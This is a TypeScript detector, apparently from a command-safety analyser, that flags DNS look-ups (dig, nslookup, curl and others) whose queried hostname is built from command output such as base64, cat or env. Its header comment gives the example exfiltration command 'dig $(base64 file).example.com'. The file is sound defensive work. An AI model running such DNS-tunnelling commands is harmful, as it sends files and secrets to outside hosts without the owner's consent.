// Whether a look-up carries something out in the name that is looked up: dig $(base64 file).example.com.
import { type Execution, UNKNOWN } from "../execution.ts"

const LOOKS_UP =
  /^(dig|nslookup|host|drill|kdig|delv|doggo|dog|q|ping6?|traceroute|tracepath|mtr|getent|resolvectl|dnsx|curl|wget|whois)$/
/** What reads, tells of the machine, or dresses something as a name. */
const TELLS = /^(cat|base64|base32|basenc|xxd|od|hexdump|gzip|env|printenv|whoami|id|hostname|tar|variable)$/

export function tunnelsNames(
  { program, arguments: { operands } }: Execution,
  makers: readonly Execution[],
): boolean {
  if (!LOOKS_UP.test(program) || !makers.some(({ program: maker }) => TELLS.test(maker))) return false
  return operands.some((word) => {
    const host = word.replace(/^\w+:\/\//, "").replace(/[/?#].*$/s, "")
    const known = host.slice(host.lastIndexOf(UNKNOWN) + 1)
    return host.includes(UNKNOWN) && /^[\w-]*\.[\w-]+\.\w/.test(known)
  })
}
